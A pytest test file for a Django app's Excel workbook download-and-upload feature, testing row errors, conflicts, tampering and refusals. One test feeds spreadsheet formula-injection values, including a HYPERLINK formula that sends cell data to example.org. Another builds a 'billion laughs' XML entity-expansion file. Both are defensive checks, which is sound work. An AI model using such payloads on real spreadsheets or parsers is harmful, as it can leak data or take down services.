"""The Excel workbook end to end: download, fill offline, upload; refusals and row errors."""

import io

import pytest
from openpyxl import load_workbook

from hedef.core.models import AuditEntry
from hedef.domain.monitoring import workbook as rw
from hedef.monitoring.actions import SubmissionSave
from hedef.monitoring.models import Submission
from tests.fixtures.hostile import billion_laughs
from tests.gold_plans import ECONOMY
from tests.helpers.monitoring import report, save


@pytest.fixture
def focal(client, more_users):
    client.force_login(more_users["focal_in"])
    return client


def download(client, cycle, agency="in"):
    response = client.get(f"/reporting/cycles/{cycle.pk}/workbook/{agency}.xlsx")
    assert response.status_code == 200
    return response.content


def upload(client, cycle, data, name="hesabat.xlsx"):
    file = io.BytesIO(data)
    file.name = name
    return client.post(f"/reporting/cycles/{cycle.pk}/workbook/upload/", {"file": file})


def fill(data, changes):
    """Write ``{(sheet, measure number, column key): value}`` into the workbook."""
    book = load_workbook(io.BytesIO(data))
    for (sheet, number, key), value in changes.items():
        ws = book[sheet]
        number_column = 4 if sheet == rw.MEASURES else 3
        row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, number_column).value == number)
        letter, _heading = rw.column_letter(sheet, key)
        ws[f"{letter}{row}"] = value
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def row_of(data, number):
    ws = load_workbook(io.BytesIO(data))[rw.MEASURES]
    return next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 4).value == number)


M = rw.MEASURES
GOOD = {
    (M, "8.1.1.1", "progress_status"): "İcra olunur",
    (M, "8.1.1.1", "stage"): "İlkin",
    (M, "8.1.1.1", "percent_complete"): 30,
    (M, "8.1.1.1", "narrative"): "Texniki tapşırıq təsdiq edilib.",
    (rw.TARGETS, "8.1.1.1", "value"): 14,
}


def test_the_workbook_holds_every_report_of_the_agency(focal, cycle):
    book = load_workbook(io.BytesIO(download(focal, cycle)))
    numbers = [c.value for c in book[M]["D"][1:]]
    assert "8.1.1.1" in numbers and "1.1.1" not in numbers  # 1.1.1 is RİNN's
    measures = Submission.objects.filter(cycle=cycle, agency__code="in", measure__isnull=False)
    assert len(numbers) == measures.count()
    assert [c.value for c in book[rw.INDICATORS]["D"][1:]] == ["4.1.1"]


def test_a_filled_workbook_becomes_drafts(focal, cycle):
    response = upload(focal, cycle, fill(download(focal, cycle), GOOD))
    assert response.status_code == 200
    result = response.context["result"]
    assert ([s.measure.number for s in result.saved], result.issues) == (["8.1.1.1"], [])
    platform = report(cycle, ECONOMY, "8.1.1.1")
    assert (platform.state, platform.progress_status, platform.percent_complete) == (
        "draft",
        "in_progress",
        30.0,
    )
    assert [v.value for v in platform.values.all()] == [14.0]
    entry = AuditEntry.objects.filter(action="submission.save").last()
    assert (entry.details["channel"], entry.details["source"]) == ("excel", "hesabat.xlsx")


def test_uploading_the_same_workbook_twice_changes_nothing(focal, cycle):
    filled = fill(download(focal, cycle), GOOD)
    upload(focal, cycle, filled)
    again = upload(focal, cycle, filled).context["result"]
    assert (again.saved, again.issues) == ([], [])


@pytest.mark.parametrize(
    "narrative", ['=HYPERLINK("https://example.org/?"&B2, "x")', "@SUM(A1)", "-2 days", "+1"]
)
def test_a_downloaded_workbook_uploaded_unchanged_keeps_a_formula_like_narrative(
    focal, cycle, more_users, narrative
):
    """The narrative is a text cell: it reads back as written, so nothing is saved."""
    saved = save(report(cycle, ECONOMY, "8.1.1.1"), more_users["focal_in"], narrative=narrative)
    data = download(focal, cycle)
    sheet = load_workbook(io.BytesIO(data))[M]
    letter, _heading = rw.column_letter(M, "narrative")
    cell = sheet[f"{letter}{row_of(data, '8.1.1.1')}"]
    assert (cell.value, cell.data_type) == (narrative, "s")
    result = upload(focal, cycle, data).context["result"]
    assert (result.saved, result.issues) == ([], [])
    after = report(cycle, ECONOMY, "8.1.1.1")
    assert (after.narrative, after.version) == (narrative, saved.version)


def test_row_errors_name_sheet_row_and_column_and_valid_rows_still_land(focal, cycle):
    data = download(focal, cycle)
    changes = {
        **GOOD,
        (M, "8.1.1.3", "percent_complete"): "yarı",
        (M, "8.1.1.4", "progress_status"): "İcra olunub",
        (M, "8.1.1.4", "percent_complete"): 80,
    }
    response = upload(focal, cycle, fill(data, changes))
    assert response.status_code == 422
    result = response.context["result"]
    assert [s.measure.number for s in result.saved] == ["8.1.1.1"]
    assert [str(i) for i in result.issues] == [
        f"Tədbirlər!K{row_of(data, '8.1.1.3')} (İcra faizi (0–100)): “yarı” is not a number.",
        f"Tədbirlər!K{row_of(data, '8.1.1.4')} (İcra faizi (0–100)): "
        "A completed measure is 100% complete, not 80.0%.",
    ]
    assert report(cycle, ECONOMY, "8.1.1.4").progress_status == ""
    assert "yarı" in response.content.decode()


def test_a_submitted_report_cannot_be_changed_from_excel(focal, cycle, more_users):
    data = download(focal, cycle)
    save(report(cycle, ECONOMY, "8.1.1.1"), more_users["focal_in"], submit=True)
    result = upload(focal, cycle, fill(data, {(M, "8.1.1.1", "narrative"): "Yeni."})).context[
        "result"
    ]
    assert [i.code for i in result.issues] == ["report_locked"]


def test_a_report_changed_since_the_download_is_not_overwritten(focal, cycle, more_users):
    data = download(focal, cycle)
    save(report(cycle, ECONOMY, "8.1.1.1"), more_users["focal_in"], narrative="Veb.")
    result = upload(focal, cycle, fill(data, {(M, "8.1.1.1", "narrative"): "Excel."})).context[
        "result"
    ]
    assert [i.code for i in result.issues] == ["conflict"]
    assert report(cycle, ECONOMY, "8.1.1.1").narrative == "Veb."


def test_a_tampered_workbook_is_refused_whole(focal, cycle):
    data = fill(download(focal, cycle), {**GOOD, (M, "8.1.1.3", "title"): "Başqa tədbir"})
    response = upload(focal, cycle, data)
    assert response.status_code == 400
    assert "hesabat.xlsx was altered at Tədbirlər!" in response.context["refused"]
    assert report(cycle, ECONOMY, "8.1.1.1").version == 1  # the good row did not land either


@pytest.mark.parametrize("data", [b"not a workbook", b"%PDF-1.4 ..."], ids=["text", "pdf"])
def test_a_malformed_file_is_refused_naming_it(focal, cycle, data):
    response = upload(focal, cycle, data, name="bad.xlsx")
    assert response.status_code == 400
    assert response.context["refused"] == "bad.xlsx is not a readable Excel workbook."


def test_a_workbook_whose_xml_expands_entities_is_refused_naming_it(focal, cycle):
    """A "billion laughs" file gets the documented refusal, not a server error."""
    data = billion_laughs(download(focal, cycle), "xl/worksheets/sheet3.xml")
    response = upload(focal, cycle, data, name="lol.xlsx")
    assert response.status_code == 400
    assert "lol.xlsx declares XML entities" in response.context["refused"]


def test_an_oversized_file_is_refused_before_reading(focal, cycle, settings):
    settings.HEDEF_MAX_WORKBOOK_BYTES = 2**20
    response = upload(focal, cycle, download(focal, cycle) + b"\0" * 2**20)
    assert response.status_code == 400
    assert response.context["form"].errors["file"] == [
        "hesabat.xlsx is larger than the 1 MB limit."
    ]


def test_a_workbook_of_another_cycle_is_refused(focal, cycle, more_users):
    import datetime

    from hedef.monitoring.actions import CycleOpen
    from tests.helpers.monitoring import actor

    other = CycleOpen(
        actor=actor(more_users["operator_admin"]),
        label="2026, II yarımil",
        kind="semi_annual",
        period_start=datetime.date(2026, 7, 1),
        period_end=datetime.date(2026, 12, 31),
        due_date=datetime.date(2027, 1, 20),
        strategies=[cycle.versions.first().version.strategy],
    ).execute()
    response = upload(focal, other, download(focal, cycle))
    assert response.status_code == 400
    assert "another reporting cycle" in response.context["refused"]


def test_an_upload_lands_whole_or_not_at_all(focal, cycle, monkeypatch):
    data = fill(download(focal, cycle), {**GOOD, (M, "8.1.1.3", "narrative"): "İkinci sətir."})
    calls = []
    original = SubmissionSave.apply

    def failing(self):
        calls.append(self.submission.pk)
        if len(calls) == 2:
            raise RuntimeError("disk full")
        return original(self)

    monkeypatch.setattr(SubmissionSave, "apply", failing)
    with pytest.raises(RuntimeError):
        upload(focal, cycle, data)
    assert report(cycle, ECONOMY, "8.1.1.1").version == 1
    assert not AuditEntry.objects.filter(action="submission.save").exists()
